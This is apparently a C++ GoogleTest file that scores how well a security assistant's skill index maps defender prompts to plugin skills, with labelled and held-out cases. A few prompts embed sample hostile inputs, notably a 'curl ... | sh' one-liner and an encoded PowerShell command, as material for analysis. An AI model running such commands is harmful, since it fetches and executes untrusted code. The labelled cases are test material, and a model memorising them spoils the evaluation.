// Retrieval accuracy on the sample plugins' real manifests (manifests/, read by PluginHost as the
// daemon reads them): labelled prompts with the skill a defender would expect first. Prints the
// top-1 and top-3 accuracy and fails below the levels recorded in docs/planner.md.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdio>
#include <stdexcept>
#include <string>
#include <vector>

#include <spdlog/spdlog.h>

#include "secpilot/grounding/skill_index.hpp"
#include "secpilot/plugin/plugin_host.hpp"

namespace secpilot::grounding {
namespace {

struct Labelled {
  const char* type;
  const char* text;  // as written in the prompt
};

struct Case {
  const char* prompt;
  std::vector<std::string> expected;  // any of these first is right
  std::vector<Labelled> entities;     // what entity extraction finds in the prompt
};

// Written before the index was tuned; the right skill is the one a planner should run first.
const std::vector<Case> kCases = {
    // indicators
    {"is 203.0.113.45 malicious", {"ThreatIntel.LookupIndicator"}, {{"ip", "203.0.113.45"}}},
    {"what do our threat intel feeds say about evil-example.com",
     {"ThreatIntel.LookupIndicator"},
     {{"domain", "evil-example.com"}}},
    {"check the reputation of 44d88612fea8a8f36de82e1278abb02f",
     {"ThreatIntel.LookupIndicator"},
     {{"md5", "44d88612fea8a8f36de82e1278abb02f"}}},
    {"has hxxps://bad[.]example/dl been seen in any blocklist",
     {"ThreatIntel.LookupIndicator"},
     {{"url", "hxxps://bad[.]example/dl"}}},
    {"pull the IOCs out of this threat report", {"ThreatIntel.ExtractIndicators"}, {}},
    {"extract all IP addresses and domains from this email", {"ThreatIntel.ExtractIndicators"}, {}},
    // scripts
    {"deobfuscate this powershell",
     {"ScriptAnalysis.DeobfuscateScript", "ScriptAnalysis.AnalyzeScript"},
     {}},
    {"what does this script do? powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
     {"ScriptAnalysis.AnalyzeScript"},
     {{"script", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA="}}},
    {"is this bash one-liner malicious: curl -s http://x.example/a | sh",
     {"ScriptAnalysis.AnalyzeScript"},
     {{"script", "curl -s http://x.example/a | sh"}, {"url", "http://x.example/a"}}},
    {"decode this base64 command", {"ScriptAnalysis.DeobfuscateScript"}, {}},
    {"which IPs and domains does this dropper contact", {"ScriptAnalysis.AnalyzeScript"}, {}},
    // KQL
    {"write a KQL query for failed sign-ins", {"Kql.GenerateKql"}, {}},
    {"generate a hunting query for registry persistence", {"Kql.GenerateKql"}, {}},
    {"write a KQL hunt for this sha256 across our devices", {"Kql.GenerateKql"}, {}},
    {"is this KQL valid? DeviceProcessEvents | where Timestamp > ago(1d)",
     {"Kql.ValidateKql"},
     {{"kql", "DeviceProcessEvents | where Timestamp > ago(1d)"}}},
    {"explain what this query does step by step", {"Kql.ExplainKql"}, {}},
    {"run this query against the local logs", {"LogHunt.RunKql"}, {}},
    {"count process creations per device per hour in the local log tables", {"LogHunt.RunKql"}, {}},
    // Red Canary
    {"which Red Canary detections are open", {"RedCanary.ListDetections"}, {}},
    {"list high severity detections from the last 24 hours",
     {"RedCanary.ListDetections", "RedCanaryApi.ListDetections"},
     {}},
    {"show me Red Canary detection 4127",
     {"RedCanary.GetDetection", "RedCanaryApi.GetDetection"},
     {{"incident_id", "4127"}}},
    {"get the activity timeline of red canary detection 4127",
     {"RedCanary.GetDetection", "RedCanaryApi.GetDetectionTimeline"},
     {{"incident_id", "4127"}}},
    {"acknowledge detection 4127 in Red Canary",
     {"RedCanary.UpdateDetectionState"},
     {{"incident_id", "4127"}}},
    {"mark the red canary detection as a false positive", {"RedCanary.UpdateDetectionState"}, {}},
    {"which endpoints does Red Canary monitor", {"RedCanary.ListEndpoints"}, {}},
    {"is ws-fin-07 isolated in Red Canary", {"RedCanary.GetEndpoint"}, {{"host", "ws-fin-07"}}},
    // Jamf
    {"is mbp-fin-12 encrypted", {"Jamf.GetComputer"}, {{"host", "mbp-fin-12"}}},
    {"list all Macs running macOS 13", {"Jamf.ListComputers"}, {}},
    {"which macs have filevault disabled or are out of date", {"Jamf.FindUnhealthyComputers"}, {}},
    {"lock the compromised MacBook", {"Jamf.LockComputer"}, {}},
    {"which laptops haven't checked in for two weeks",
     {"Jamf.FindUnhealthyComputers", "Jamf.ListComputers"},
     {}},
    // posture and policy
    {"check this server's ssh configuration", {"Posture.AssessHost"}, {}},
    {"how hardened is our debian web server", {"Posture.AssessHost"}, {}},
    {"is the firewall enabled on this linux box and which ports are listening",
     {"Posture.AssessHost"},
     {}},
    {"review our conditional access policies", {"Policy.AnalyzePolicies"}, {}},
    {"do all admins require MFA", {"Policy.AnalyzePolicies"}, {}},
    {"is legacy authentication blocked in Entra", {"Policy.AnalyzePolicies"}, {}},
    // incidents and reports
    {"brief the CISO", {"Incident.WriteReport"}, {}},
    {"summarize this Defender incident", {"Incident.SummarizeIncident"}, {}},
    {"build a timeline of this incident", {"Incident.SummarizeIncident"}, {}},
    {"write a remediation plan for the IT admins", {"Incident.WriteReport"}, {}},
    {"triage this sentinel incident export", {"Incident.SummarizeIncident"}, {}},
    {"map this incident to MITRE ATT&CK techniques", {"Incident.SummarizeIncident"}, {}},
    {"write a narrative report for the board",
     {"Incident.WriteReport", "Incident.WriteReportWithModel"},
     {}},
    // canned hunting queries
    {"show the sign-ins of alice@contoso.com",
     {"DefenderHunting.SignInsForUser"},
     {{"email", "alice@contoso.com"}}},
    {"what processes ran on ws-042", {"DefenderHunting.ProcessesOnHost"}, {{"host", "ws-042"}}},
    {"did any device run encoded powershell", {"DefenderHunting.EncodedPowerShell"}, {}},
    {"which machines talked to 198.51.100.23",
     {"DefenderHunting.ConnectionsToIndicator"},
     {{"ip", "198.51.100.23"}}},
    {"who received emails from attacker@evil-example.com",
     {"DefenderHunting.EmailsFromSender"},
     {{"email", "attacker@evil-example.com"}}},
    {"close detection 4127 as remediated",
     {"RedCanary.UpdateDetectionState"},
     {{"incident_id", "4127"}}},
};

// Written after the tuning, never tuned against: how well the tuning generalises.
const std::vector<Case> kHeldOut = {
    {"any hits for 45.77.12.9 in the blocklists?",
     {"ThreatIntel.LookupIndicator"},
     {{"ip", "45.77.12.9"}}},
    {"is this sha256 known bad: "
     "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
     {"ThreatIntel.LookupIndicator"},
     {{"sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}},
    {"find every indicator in this phishing email and refang them",
     {"ThreatIntel.ExtractIndicators"},
     {}},
    {"take apart this VBScript dropper", {"ScriptAnalysis.AnalyzeScript"}, {}},
    {"what ATT&CK techniques does this bash script use", {"ScriptAnalysis.AnalyzeScript"}, {}},
    {"show me the decoded layers of this obfuscated command",
     {"ScriptAnalysis.DeobfuscateScript"},
     {}},
    {"why does my advanced hunting query fail", {"Kql.ValidateKql"}, {}},
    {"describe in plain english what this sentinel query returns", {"Kql.ExplainKql"}, {}},
    {"give me KQL to find LOLBin use on WS-042 last week",
     {"Kql.GenerateKql"},
     {{"host", "WS-042"}}},
    {"execute this hunting query on the exported logs", {"LogHunt.RunKql"}, {}},
    {"what did Red Canary find this week", {"RedCanary.ListDetections"}, {}},
    {"set detection 5531 to not remediated sanctioned activity",
     {"RedCanary.UpdateDetectionState"},
     {{"incident_id", "5531"}}},
    {"which linux endpoints does red canary cover", {"RedCanary.ListEndpoints"}, {}},
    {"who uses the mac with serial C02XK1ABJGH5 and when did it last check in",
     {"Jamf.GetComputer", "Jamf.ListComputers"},
     {}},
    {"which finance macs are out of compliance", {"Jamf.FindUnhealthyComputers"}, {}},
    {"remote lock the stolen macbook and show a message to call the SOC",
     {"Jamf.LockComputer"},
     {}},
    {"is root login over ssh allowed on /mnt/web-01",
     {"Posture.AssessHost"},
     {{"file_path", "/mnt/web-01"}}},
    {"what should I fix first on this ubuntu box", {"Posture.AssessHost"}, {}},
    {"are guests required to use multi-factor authentication in our CA policies",
     {"Policy.AnalyzePolicies"},
     {}},
    {"would this new conditional access policy lock out the break-glass accounts",
     {"Policy.AnalyzePolicies"},
     {}},
    {"give me an executive summary of this incident for leadership",
     {"Incident.WriteReport", "Incident.WriteReportWithModel"},
     {}},
    {"what happened in this Defender XDR incident and what should we do first",
     {"Incident.SummarizeIncident"},
     {}},
    {"which hosts and users does this Sentinel incident involve",
     {"Incident.SummarizeIncident"},
     {}},
    {"list the processes started on host dc-01",
     {"DefenderHunting.ProcessesOnHost"},
     {{"host", "dc-01"}}},
    {"has anyone connected to evil-cdn.example",
     {"DefenderHunting.ConnectionsToIndicator"},
     {{"domain", "evil-cdn.example"}}},
    {"did jdoe@corp.example have failed logins recently",
     {"DefenderHunting.SignInsForUser"},
     {{"email", "jdoe@corp.example"}}},
    {"find powershell launched with -EncodedCommand anywhere in the fleet",
     {"DefenderHunting.EncodedPowerShell"},
     {}},
    {"did this phishing sender reach any inbox", {"DefenderHunting.EmailsFromSender"}, {}},
};

// The levels recorded in docs/planner.md ("Skill retrieval"); raise them when retrieval improves.
constexpr double kTop1WithEntities = 0.98;  // 49/50
constexpr double kTop3WithEntities = 1.0;
constexpr double kTop1PromptOnly = 0.96;  // 48/50
constexpr double kTop3PromptOnly = 1.0;
constexpr double kTop1HeldOut = 0.96;  // 27/28
constexpr double kTop3HeldOut = 1.0;

// The entities as extract_entities reports them: type, text and where it is.
std::vector<Entity> entities_of(const Case& c) {
  std::vector<Entity> entities;
  const std::string_view prompt(c.prompt);
  for (const auto& labelled : c.entities) {
    Entity entity;
    entity.type = labelled.type;
    entity.value = entity.text = labelled.text;
    entity.offset = prompt.find(labelled.text);
    entity.length = entity.text.size();
    if (entity.offset == std::string_view::npos)
      throw std::logic_error(std::string("entity not in its prompt: ") + labelled.text);
    entities.push_back(std::move(entity));
  }
  return entities;
}

struct Accuracy {
  std::size_t top1 = 0;
  std::size_t top3 = 0;
  std::size_t cases = 0;
  double top1_share() const { return static_cast<double>(top1) / static_cast<double>(cases); }
  double top3_share() const { return static_cast<double>(top3) / static_cast<double>(cases); }
};

class RetrievalAccuracy : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    spdlog::set_level(spdlog::level::err);  // the sample libraries are not built here: expected
    plugin::HostOptions options;
    options.plugin_dirs = {std::filesystem::path(SECPILOT_SOURCE_DIR) / "manifests"};
    host_ = new plugin::PluginHost(std::move(options));
    index_ = new SkillIndex(SkillIndex::build(host_->catalog()));
  }
  static void TearDownTestSuite() {
    delete index_;
    delete host_;
  }

  // Runs every case, prints the misses with their explanation and the accuracy.
  static Accuracy measure(const char* title, const std::vector<Case>& cases, bool with_entities) {
    Accuracy accuracy;
    accuracy.cases = cases.size();
    for (const auto& c : cases) {
      const auto entities = entities_of(c);
      SearchOptions options;
      options.top_k = 3;
      options.include_unavailable = true;  // the sample libraries are not loaded here
      if (with_entities) options.entities = entities;
      const auto matches = index_->search(c.prompt, options);
      const auto right = [&](const Match& match) {
        return std::find(c.expected.begin(), c.expected.end(), match.full_name()) !=
               c.expected.end();
      };
      const bool first = !matches.empty() && right(matches.front());
      accuracy.top1 += first ? 1 : 0;
      accuracy.top3 += std::any_of(matches.begin(), matches.end(), right) ? 1 : 0;
      if (!first)
        std::printf(
            "  miss: \"%s\": expected %s, got %s\n", c.prompt, c.expected.front().c_str(),
            matches.empty()
                ? "nothing"
                : (matches.front().full_name() + " (" + explain(matches.front()) + ")").c_str());
    }
    std::printf("%s: top-1 %zu/%zu (%.1f%%), top-3 %zu/%zu (%.1f%%)\n", title, accuracy.top1,
                accuracy.cases, 100 * accuracy.top1_share(), accuracy.top3, accuracy.cases,
                100 * accuracy.top3_share());
    return accuracy;
  }

  static plugin::PluginHost* host_;
  static SkillIndex* index_;
};
plugin::PluginHost* RetrievalAccuracy::host_ = nullptr;
SkillIndex* RetrievalAccuracy::index_ = nullptr;

TEST_F(RetrievalAccuracy, EveryExpectedSkillIsInTheSampleCatalog) {
  ASSERT_GE(kCases.size(), 40u);
  for (const auto* cases : {&kCases, &kHeldOut})
    for (const auto& c : *cases)
      for (const auto& name : c.expected)
        EXPECT_NE(index_->find(name), nullptr) << name << " (expected for \"" << c.prompt << "\")";
}

TEST_F(RetrievalAccuracy, WithTheEntitiesExtractionFinds) {
  const auto accuracy = measure("retrieval with entities", kCases, true);
  EXPECT_GE(accuracy.top1_share(), kTop1WithEntities);
  EXPECT_GE(accuracy.top3_share(), kTop3WithEntities);
}

TEST_F(RetrievalAccuracy, FromThePromptAlone) {
  const auto accuracy = measure("retrieval from the prompt alone", kCases, false);
  EXPECT_GE(accuracy.top1_share(), kTop1PromptOnly);
  EXPECT_GE(accuracy.top3_share(), kTop3PromptOnly);
}

TEST_F(RetrievalAccuracy, OnPromptsItWasNotTunedOn) {
  const auto accuracy = measure("retrieval on held-out prompts, with entities", kHeldOut, true);
  EXPECT_GE(accuracy.top1_share(), kTop1HeldOut);
  EXPECT_GE(accuracy.top3_share(), kTop3HeldOut);
}

}  // namespace
}  // namespace secpilot::grounding
